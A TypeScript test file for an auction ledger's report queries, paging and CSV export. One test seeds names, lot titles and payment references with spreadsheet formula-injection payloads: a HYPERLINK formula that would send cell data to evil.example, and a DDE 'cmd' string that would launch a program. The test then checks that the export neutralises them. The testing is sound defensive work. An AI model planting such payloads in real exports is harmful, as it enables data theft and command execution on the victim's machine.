import { actions, type ReportPage, reportCsvPath } from '@wine/contracts';
import { manualClock } from '@wine/platform';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { applyEvents, eventRecorder, queryApp } from '../core/testing.ts';
import { invoiceIssued, paymentRecorded } from '../invoices/testing.ts';
import { usersProjection } from '../users/project.ts';
import { ledgerProjection } from './project.ts';
import { reportQueries } from './queries.ts';
import { PIECE } from './source.ts';

const clock = manualClock('2026-12-31T12:00:00.000Z');
const registered = (userId: string) => ({
  userId,
  firstName: userId.toUpperCase(),
  lastName: 'Buyer',
  email: `${userId}@example.com`,
  phone: null,
  countryCode: 'US',
  newsletter: false,
  registeredAt: '2026-11-01T00:00:00.000Z',
  popupMessage: 0,
});
// More invoices than one piece of the ledger holds, so the keyset reading crosses pieces.
const INVOICES = PIECE * 2 + 37;

async function books() {
  const record = eventRecorder('2026-11-01T00:00:00.000Z');
  const events = [
    record('user-ann', 'UserRegistered', registered('ann')),
    record('user-fin', 'UserRegistered', registered('fin')),
    record('user-fin', 'RoleGranted', { role: 'finance' }),
  ];
  for (let i = 0; i < INVOICES; i++) {
    events.push(record(`invoice-i${i}`, 'InvoiceIssued', invoiceIssued({ invoiceId: `i${i}` })));
    // Every third invoice is paid.
    if (i % 3 === 0)
      events.push(record(`invoice-i${i}`, 'PaymentRecorded', paymentRecorded(`p${i}`, 66_150)));
  }
  const docs = await applyEvents([usersProjection, ledgerProjection], events, undefined, 200);
  const { app, post, signIn } = await queryApp(reportQueries, docs, clock);
  return { app, post, fin: await signIn('fin'), ann: await signIn('ann') };
}

describe('report queries over the ledger', () => {
  it('pages the records, totals all of them, and names the buyer', async () => {
    const { post, fin } = await books();
    const range = { from: '2026-11-01', to: '2026-12-31' };
    const last = (await post(actions.getCustomerOrders.path, { ...range, page: 3, limit: 500 }, fin)).json()
      .data.responseData as ReportPage;
    expect(last.totalRecords).toBe(INVOICES);
    expect(last.setDisp).toBe(`Showing 1001-${INVOICES} of ${INVOICES}`);
    expect(last.records.at(-1)).toMatchObject({ invoice_id: `i${INVOICES - 1}`, buyer: 'ANN Buyer' });
    expect(last.totals.total).toBe(INVOICES * 66_150);
    const paid = Math.ceil(INVOICES / 3);
    expect(last.totals.paid).toBe(paid * 66_150);
    const unpaid = (await post(actions.getCustomerUnPaid.path, range, fin)).json().data
      .responseData as ReportPage;
    expect(unpaid.totalRecords).toBe(INVOICES - paid);
  });

  it('streams the same CSV the export action answers, one row per invoice across pieces', async () => {
    const { app, post, fin } = await books();
    const body = { report: 'getCustomerOrders', from: '2026-11-01', to: '2026-12-31' };
    const text = (await post(actions.exportReport.path, body, fin)).json().data.responseData
      .records as string;
    const streamed = await app.inject({ method: 'POST', url: reportCsvPath, payload: body, headers: fin });
    expect(streamed.statusCode).toBe(200);
    expect(streamed.body).toBe(text);
    const rows = parse(text, { bom: true, columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r.invoice_id)).toEqual(Array.from({ length: INVOICES }, (_, i) => `i${i}`));
    expect(rows[0]).toMatchObject({ total_usd: '661.50', paid_usd: '661.50', status: 'paid' });
  });

  it('refuses a buyer, before reading the body', async () => {
    const { app, ann } = await books();
    for (const url of [actions.getPayments.path, reportCsvPath]) {
      const refused = await app.inject({
        method: 'POST',
        url,
        payload: '{oops',
        headers: { ...ann, 'content-type': 'application/json' },
      });
      expect([refused.statusCode, refused.json().data.code]).toEqual([403, 'ROLE_REQUIRED']);
    }
  });

  it('writes a buyer, a lot title and a reference that a spreadsheet would run as text, and money as numbers', async () => {
    const record = eventRecorder('2026-11-01T00:00:00.000Z');
    const hyperlink = '=HYPERLINK("http://evil.example/?d="&B2,"Refund")';
    const calc = "=cmd|' /C calc'!A0";
    const events = [
      record('user-eve', 'UserRegistered', { ...registered('eve'), firstName: hyperlink, lastName: '' }),
      record('user-fin', 'UserRegistered', registered('fin')),
      record('user-fin', 'RoleGranted', { role: 'finance' }),
      record(
        'invoice-x1',
        'InvoiceIssued',
        invoiceIssued({
          invoiceId: 'x1',
          buyerId: 'eve',
          lines: [
            {
              lotId: 'l-x',
              title: calc,
              sellerId: 'house',
              qty: 1,
              unitPrice: 50_000,
              amount: 50_000,
              reservationId: null,
            },
          ],
        }),
      ),
      record('invoice-x1', 'PaymentRecorded', {
        ...paymentRecorded('px', 66_150, 'offline'),
        reference: '@SUM(A1:A9)',
      }),
      record('invoice-x1', 'PaymentRefunded', {
        refundId: 'rx',
        paymentId: 'px',
        amount: 1_205,
        to: 'wallet',
        reason: '+1+1',
        // A return's refund leaves the invoice paid, so the lot is in "Vendor sold" too.
        returnId: 'r-x',
      }),
    ];
    const docs = await applyEvents([usersProjection, ledgerProjection], events, undefined, 200);
    const { app, post, signIn } = await queryApp(reportQueries, docs, clock);
    const fin = await signIn('fin');
    const range = { from: '2026-11-01', to: '2026-12-31' };
    const csvOf = async (report: string) => {
      const body = { report, ...range };
      const text = (await post(actions.exportReport.path, body, fin)).json().data.responseData
        .records as string;
      const streamed = await app.inject({ method: 'POST', url: reportCsvPath, payload: body, headers: fin });
      expect(streamed.body).toBe(text);
      return parse(text, { bom: true, columns: true }) as Record<string, string>[];
    };
    const [order] = await csvOf('getCustomerOrders');
    expect(order).toMatchObject({ buyer: `'${hyperlink}`, total_usd: '661.50' });
    const [sold] = await csvOf('getVendorSold');
    expect(sold).toMatchObject({ title: `'${calc}`, seller: 'Fine Wine Auction' });
    // Issue 31: the house's lots name the merchant as their seller, never an empty name.
    const [selling] = await csvOf('getVendorSelling');
    expect(selling).toMatchObject({ seller_id: 'house', seller: 'Fine Wine Auction' });
    const payments = await csvOf('getPayments');
    expect(payments.map((p) => [p.reference, p.amount_usd])).toEqual([
      ["'@SUM(A1:A9)", '661.50'],
      ["'+1+1", '-12.05'],
    ]);
  });
});
